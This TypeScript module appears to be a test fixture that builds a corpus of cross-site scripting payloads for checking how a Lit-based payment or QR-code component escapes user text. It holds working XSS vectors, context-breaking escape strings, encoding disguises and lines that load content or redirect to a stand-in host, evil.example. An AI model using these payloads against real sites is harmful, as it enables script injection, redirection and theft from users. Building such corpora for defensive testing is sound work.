/**
 * Ways in which a text tries to become markup, script, style or a request: every payload, out of every place that a careless template
 * could have put it into, in every disguise that some decoder undoes. Whatever runs calls `pwned`; whatever loads asks `evil.example`.
 */

const PAYLOADS = [
  '<script>pwned()</script>',
  '<img src=x onerror=pwned()>',
  '<svg onload=pwned()>',
  '<svg><script>pwned()</script></svg>',
  '<iframe srcdoc="<script>parent.pwned()</script>"></iframe>',
  '<a href="javascript:pwned()">Pay</a>',
  '<style>@import "//evil.example/x.css";</style>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<base href=//evil.example/>',
  '<form action=//evil.example/><button>Pay</button></form>',
  '<img src=//evil.example/x>',
  '<details open ontoggle=pwned()>x</details>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=pwned()>">',
  '<template shadowrootmode=open><img src=x onerror=pwned()></template>',
  '<input autofocus onfocus=pwned()>',
  '<meta http-equiv=refresh content="0;url=//evil.example/">',
  '<object data=//evil.example/x></object><embed src=//evil.example/x>',
  '<slot name=paid></slot><pix-qr code=x></pix-qr>',
];

/** What ends the place where the text stands: an attribute, an element, a comment, a template, a style sheet, a script. */
const ESCAPES = ['', '">', "'>", '--></p></span>', '</style></script></title></textarea>', '${', '{{', ']]>', '\\"}); pwned(); ({"', 'x;background:url(//evil.example/x)}'];

const entities = (text: string): string => [...text].map((letter) => `&#${letter.codePointAt(0)};`).join('');

/** Disguises that a second decoding, a folding of letters or the cutting of what is not seen would take off. */
const DISGUISES: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => text.replace(/[a-z]+/g, (word, at: number) => (at % 2 ? word.toUpperCase() : word)).replace(/pwned/gi, 'pwned'),
  entities,
  encodeURIComponent,
  (text) => JSON.stringify(text).replaceAll('<', '\\u003c'),
  (text) => text.replaceAll('<', '\0<').replaceAll('>', '\t>'),
  (text) => text.replace(/[<>"'=]/g, (letter) => String.fromCodePoint(letter.codePointAt(0)! + 0xfee0)),
  (text) => text.replaceAll('<', '\ud800<\ufeff'),
];

/** Texts that Lit itself knows: the marks of its templates. */
const MARKS = ['<!--?lit$123456789$-->', '<?lit$123456789$>', 'lit$123456789$', '<!--lit-part-->', '<p title=lit$1$></p>', '<!--', '<!---->', '<?', '</', '<a', '&lt;b&gt;<b>', '</p><p>', '\u2028<b>\u2029'];

/** Short enough to stand where a code names its payee. */
export const SHORT = ['<img src=x onerror=pwned>', '<svg onload=pwned()>', '<b>x</b>', '"><img src=x>', '</p><p>x', '<!--', "'><base href=//x>", '<a href=//evil.example>', '<slot name=paid>', '${pwned()}', '{{pwned()}}', '<style>*{}</style>'];

/** Every vector once. */
export const XSS: readonly string[] = [
  ...new Set([
    ...SHORT,
    ...MARKS,
    ...PAYLOADS.flatMap((payload) => [...ESCAPES.map((escape) => escape + payload), ...DISGUISES.map((disguise) => disguise(payload))]),
  ]),
];
